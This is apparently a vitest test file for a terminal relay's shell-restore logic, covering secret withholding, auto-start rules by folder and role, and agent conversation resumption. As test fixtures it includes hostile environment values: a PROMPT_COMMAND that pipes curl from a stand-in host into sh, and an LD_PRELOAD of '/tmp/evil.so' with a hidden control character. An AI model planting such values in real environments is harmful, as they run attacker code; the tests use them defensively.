import { mkdirSync } from "node:fs";
import { expect, test } from "vitest";
import type { ShellId } from "../../../../../core/protocol/ids.ts";
import { RestoreWish } from "../../../../../core/protocol/restore.ts";
import type { AgentsPort, ResumableAgent } from "../../../../../main/relay/session/ports.ts";
import { noAgents, resumeStarts } from "../../../../support/no-agents.ts";
import { smallSession } from "../small-session.ts";
import { temporaryFolder } from "../temporary-folder.ts";

type Lab = ReturnType<typeof smallSession>;

const ready: ResumableAgent = {
  state: "ready",
  ...{ agentType: "claude", sessionId: "a-1", cwd: "/", lastActivityAt: new Date(0).toISOString() },
  ...{ leftOut: [], command: "claude --resume a-1", exec: ["claude", "--resume", "a-1"], isPlain: true, env: {} },
};

const restore = ({ session }: Lab, wish: object = {}) =>
  session.restorer.restore(session.clients.relayUser, RestoreWish.parse(wish));

test("only what ended otherwise than by itself is offered, until it is closed or dismissed", async () => {
  await using lab = smallSession();
  const client = await lab.join();
  for (let count = 0; count < 6; count++) await client.execute("createShell", {});
  const id = (number: number) => number as ShellId;
  lab.tell({ kind: "exited", id: id(1), exitCode: 0, signal: null });
  lab.tell({ kind: "exited", id: id(2), exitCode: 130, signal: null });
  lab.tell({ kind: "exited", id: id(3), exitCode: 129, signal: 1 });
  lab.tell({ kind: "exited", id: id(4), exitCode: 143, signal: null });
  lab.tell({ kind: "lost", id: id(5) });
  expect((await restore(lab)).map(({ shellId, cause }) => [shellId, cause])).toEqual([
    [3, "signal"],
    [4, "signal"],
    [5, "lost"],
  ]);
  await client.execute("closeShell", { id: 3 });
  expect(await restore(lab, { shell: 4, dismiss: true })).toMatchObject([{ state: "dismissed" }]);
  // The sixth one ends with the relay.
  await lab.reopen();
  expect((await restore(lab)).map(({ shellId, cause }) => [shellId, cause])).toEqual([
    [5, "lost"],
    [6, "stopped"],
  ]);
  await expect(restore(lab, { shell: 4 })).rejects.toMatchObject({ code: "invalid_request" });
  await expect(restore(lab, { shell: 5, all: true })).rejects.toMatchObject({ code: "invalid_params" });
  await expect(restore(lab, { conversation: "x" })).rejects.toMatchObject({ code: "invalid_params" });
  await expect(restore(lab, { shell: 5, conversation: "x" })).rejects.toMatchObject({ code: "invalid_params" });
});

test("of two calls at once one starts the shell, and the other says so", async () => {
  await using lab = smallSession();
  const client = await lab.join();
  await client.execute("createShell", {});
  lab.crash();
  const both = await Promise.all([restore(lab, { all: true }), restore(lab, { all: true })]);
  expect(both.map(([offer]) => offer?.state)).toEqual(["started", "skipped"]);
  expect(lab.session.state.now.shells.map(({ id }) => id)).toEqual([2]);
});

test("values of variables that may be secrets are stored nowhere", async () => {
  await using lab = smallSession();
  const client = await lab.join();
  const env = {
    EDITOR: "vi",
    GITHUB_TOKEN: "s3cr3t-1",
    db_password: "s3cr3t-2",
    OPENAI_API_KEY: "s3cr3t-3",
    KEYMAP: "us",
  };
  await client.execute("createShell", { env });
  const [stored] = lab.store.shells.listStored(lab.session.id);
  expect(stored?.start).toEqual({
    env: { EDITOR: "vi", KEYMAP: "us" },
    withheld: ["GITHUB_TOKEN", "db_password", "OPENAI_API_KEY"],
    byGuest: false,
  });
  expect(JSON.stringify(lab.store.shells.listStored(lab.session.id))).not.toContain("s3cr3t");
});

test("an offer shows the values of its variables, as far as they fit, and no secret in them", async () => {
  await using lab = smallSession();
  const client = await lab.join();
  const env = {
    LD_PRELOAD: "/tmp/evil.so\u202e",
    NODE_OPTIONS: `--require ${"x".repeat(300)}`,
    DATABASE_URL: "postgres://me:hunter22@db.example.org/a",
    PROMPT_COMMAND: 'pwd="$(curl -s https://e.example/x1 | sh)"',
    GITHUB_TOKEN: "s3cr3t",
    EMPTY: "",
  };
  await client.execute("createShell", { env });
  lab.crash();
  const [offer] = await restore(lab);
  expect(offer?.env).toEqual(["LD_PRELOAD", "NODE_OPTIONS", "EMPTY"]);
  expect(offer?.withheld).toEqual(["DATABASE_URL", "PROMPT_COMMAND", "GITHUB_TOKEN"]);
  expect(offer?.values).toEqual({
    LD_PRELOAD: "/tmp/evil.so",
    NODE_OPTIONS: `--require ${"x".repeat(189)}…`,
    EMPTY: "",
  });
  // One that was kept before, by an earlier relay.
  const [stored] = lab.store.shells.listStored(lab.session.id);
  if (stored?.start === undefined) throw new Error("the start is not stored");
  lab.store.shells.put(lab.session.id, stored.shell, { start: { ...stored.start, env } });
  const why = expect.stringContaining("hidden as a secret");
  expect(await restore(lab, { all: true })).toMatchObject([{ state: "skipped", why }]);
  expect(lab.session.state.now.shells.some(({ running }) => running)).toBe(false);
});

test("a program whose arguments are hidden as a secret is not started unseen", async () => {
  await using lab = smallSession();
  const client = await lab.join();
  const [begin, end] = ["-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"];
  await client.execute("createShell", { exec: ["sh", "-c", `: '${begin}'; make bad; : '${end}'`] });
  lab.crash();
  const why = expect.stringContaining("hidden as a secret");
  expect(await restore(lab)).toMatchObject([{ state: "offered", why, program: expect.not.stringContaining("bad") }]);
  expect(await restore(lab, { all: true })).toMatchObject([{ state: "skipped", why }]);
});

test("an offer shows the line that resumes an agent without the secrets in it, and does not enter what it does not show", async () => {
  const token = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
  const command = `TOKEN=${token} claude --resume a-1`;
  const resumes = { ...noAgents.resumes, list: async () => [{ ...ready, command }] };
  await using lab = smallSession({ agents: { ...noAgents, resumes } });
  const client = await lab.join();
  await client.execute("createShell", {});
  lab.crash();
  const shown = `TOKEN=ghp_${"•".repeat(36)} claude --resume a-1`;
  expect(await restore(lab)).toMatchObject([{ agents: [{ command: shown }] }]);
  const [restored] = await restore(lab, { all: true });
  expect(restored).toMatchObject({ state: "started", why: expect.stringContaining("hidden as a secret") });
  expect(restored?.conversation).toBeUndefined();
});

test("a folder that the owner has decided for starts by itself, others do not, until that is taken back", async () => {
  using folder = temporaryFolder();
  await using lab = smallSession();
  const client = await lab.join();
  const [mine, other] = [`${folder.path}/mine`, `${folder.path}/other`];
  for (const cwd of [mine, other]) {
    mkdirSync(cwd);
    await client.execute("createShell", { cwd });
  }
  lab.crash();
  await restore(lab, { shell: 1, folder: "always" });
  lab.crash();
  const { restorer, clients } = lab.session;
  expect(await restorer.restoreAlways(() => clients.relayUser)).toMatchObject([{ cwd: mine, state: "started" }]);
  expect((await restore(lab)).map(({ cwd, always }) => [cwd, always])).toEqual([[other, false]]);
  lab.crash();
  expect(await restore(lab, { all: true, folder: "ask" })).toHaveLength(2);
  lab.crash();
  expect(await lab.session.restorer.restoreAlways(() => lab.session.clients.relayUser)).toEqual([]);
});

test("in such a folder nothing starts by itself that a guest or a writer has chosen", async () => {
  using folder = temporaryFolder();
  await using lab = smallSession();
  const owner = await lab.join();
  const guest = await lab.join(lab.guest({ role: "admin" }));
  const writer = await lab.join({ role: "writer" });
  for (const one of [owner, guest, writer]) await one.execute("createShell", { cwd: folder.path });
  lab.crash();
  await restore(lab, { shell: 1, folder: "always" });
  lab.crash();
  const { restorer, clients } = lab.session;
  expect(await restorer.restoreAlways(() => clients.relayUser)).toMatchObject([{ shellId: 4, state: "started" }]);
  expect((await restore(lab)).map(({ shellId }) => shellId)).toEqual([2, 3]);
});

test("a shell whose rights were lowered has no more in its place, and does not start by itself", async () => {
  using folder = temporaryFolder();
  await using lab = smallSession();
  const owner = await lab.join();
  const other = await lab.join({ name: "bob" });
  for (const one of [owner, other, other]) await one.execute("createShell", { cwd: folder.path });
  const rightsOf = (shell: number) => lab.keys.principalOfShell(lab.session.id, shell as ShellId)?.membership;
  expect(other.self !== undefined && lab.session.clients.changeRole(other.self.id, "reader")).toBe(true);
  expect([rightsOf(1), rightsOf(2)]).toEqual([
    { role: "admin", guest: false },
    { role: "reader", guest: false },
  ]);
  lab.crash();
  const lowest = { role: "reader", guest: true };
  expect(await restore(lab, { shell: 2, folder: "always" })).toMatchObject([{ state: "started", newShellId: 4 }]);
  expect(rightsOf(4)).toEqual(lowest);
  lab.crash();
  const { restorer, clients } = lab.session;
  expect(await restorer.restoreAlways(() => clients.relayUser)).toMatchObject([{ shellId: 1, newShellId: 5 }]);
  expect(rightsOf(5)).toEqual({ role: "admin", guest: false });
});

test("a guest, also one who is an admin, is not offered anything", async () => {
  await using lab = smallSession();
  const client = await lab.join();
  await client.execute("createShell", {});
  lab.crash();
  const wish = { all: true };
  for (const role of ["admin", "writer", "reader"] as const) {
    const guest = await lab.join(lab.guest({ role }));
    await expect(guest.ask("restoreShells", wish)).rejects.toMatchObject({ code: "role_forbids" });
  }
  const writer = await lab.join({ role: "writer" });
  await expect(writer.ask("restoreShells", wish)).rejects.toMatchObject({ code: "role_forbids" });
  const owner = await lab.join();
  expect(await owner.ask("restoreShells", wish)).toMatchObject([{ state: "started" }]);
});

test("a conversation that cannot be resumed now is offered with the shell in its place, and keeps one from starting by itself", async () => {
  using folder = temporaryFolder();
  const lost: ResumableAgent = {
    ...{
      agentType: "claude",
      sessionId: "a-1",
      state: "missing" as const,
      why: "Its transcript is not found.",
      cwd: folder.path,
    },
    ...{ lastActivityAt: new Date(0).toISOString(), leftOut: [], command: "claude --resume a-1" },
    ...{ exec: ["claude", "--resume", "a-1"], isPlain: true, env: {} },
  };
  let shell = 1;
  const resumes: AgentsPort["resumes"] = {
    ...noAgents.resumes,
    list: async (_session, id) => (id === shell ? [lost] : []),
    note(_session, { sessionId }, { from, to }) {
      expect([sessionId, from]).toEqual(["a-1", shell]);
      shell = to;
    },
  };
  await using lab = smallSession({ agents: { ...noAgents, resumes } });
  const client = await lab.join();
  await client.execute("createShell", { cwd: folder.path });
  lab.crash();
  expect(await restore(lab, { shell: 1, folder: "always" })).toMatchObject([{ state: "started", newShellId: 2 }]);
  lab.crash();
  const { restorer, clients } = lab.session;
  expect(await restorer.restoreAlways(() => clients.relayUser)).toMatchObject([{ state: "skipped", why: lost.why }]);
  expect(await restore(lab)).toMatchObject([{ shellId: 2, agents: [{ sessionId: "a-1" }] }]);
  // Who wants the shell alone is not offered the conversation again.
  expect(await restore(lab, { shell: 2, resume: false })).toMatchObject([{ state: "started", newShellId: 3 }]);
  expect(shell).toBe(2);
});

test("a conversation that ran in two shells is resumed in one of them", async () => {
  const resumes = { ...noAgents.resumes, list: async () => [ready] };
  await using lab = smallSession({ agents: { ...noAgents, resumes } });
  const client = await lab.join();
  for (let count = 0; count < 2; count++) await client.execute("createShell", {});
  lab.crash();
  const expected = [
    { shellId: 1, state: "resumed", conversation: "a-1" },
    { shellId: 2, state: "started", why: "It is resumed for shell 1." },
  ];
  const planned = await restore(lab, { all: true, dryRun: true });
  expect(planned).toMatchObject(expected);
  expect(planned[1]?.conversation).toBeUndefined();
  expect(await restore(lab, { all: true })).toMatchObject(expected);
});

test("of two calls at once for one conversation that ran in two shells one resumes it, and the other starts nothing", async () => {
  const resumes = { ...noAgents.resumes, list: async () => [ready], starts: resumeStarts() };
  await using lab = smallSession({ agents: { ...noAgents, resumes } });
  const client = await lab.join();
  for (let count = 0; count < 2; count++) await client.execute("createShell", {});
  lab.crash();
  const wish = { conversation: "a-1" };
  const [[first], [second]] = await Promise.all([
    restore(lab, { shell: 1, ...wish }),
    restore(lab, { shell: 2, ...wish }),
  ]);
  expect(first).toMatchObject({ state: "resumed", conversation: "a-1" });
  expect(second).toMatchObject({ state: "skipped", why: "It is resumed already." });
  expect((await restore(lab)).map(({ shellId }) => shellId)).toEqual([2]);
});

test("a conversation that an agent works on by then is not resumed in the place of its shell", async () => {
  let runsIn: ReturnType<Parameters<typeof resumeStarts>[0] & object>;
  const list = async () => [ready];
  const resumes = { ...noAgents.resumes, list, starts: resumeStarts(() => runsIn) };
  await using lab = smallSession({ agents: { ...noAgents, resumes } });
  const client = await lab.join();
  await client.execute("createShell", {});
  lab.crash();
  expect(await restore(lab)).toMatchObject([{ agents: [{ state: "ready" }] }]);
  runsIn = { session: lab.session.id, shellId: 7 as ShellId };
  expect(await restore(lab, { shell: 1, conversation: "a-1" })).toMatchObject([
    { state: "started", why: "An agent works on this conversation in shell 7: go there instead." },
  ]);
});

test("a conversation whose agent starts is not resumed by a second call, until its shell has ended", async () => {
  const resumes = { ...noAgents.resumes, list: async () => [ready], starts: resumeStarts() };
  await using lab = smallSession({ agents: { ...noAgents, resumes } });
  const client = await lab.join();
  for (let count = 0; count < 3; count++) await client.execute("createShell", {});
  lab.crash();
  const wish = { conversation: "a-1" };
  expect(await restore(lab, { shell: 1, ...wish })).toMatchObject([{ state: "resumed", newShellId: 4 }]);
  expect(await restore(lab, { shell: 2, ...wish })).toMatchObject([
    { state: "started", why: "It is resumed in shell 4." },
  ]);
  lab.tell({ kind: "lost", id: 4 as ShellId });
  expect(await restore(lab, { shell: 3, ...wish })).toMatchObject([{ state: "resumed", conversation: "a-1" }]);
});
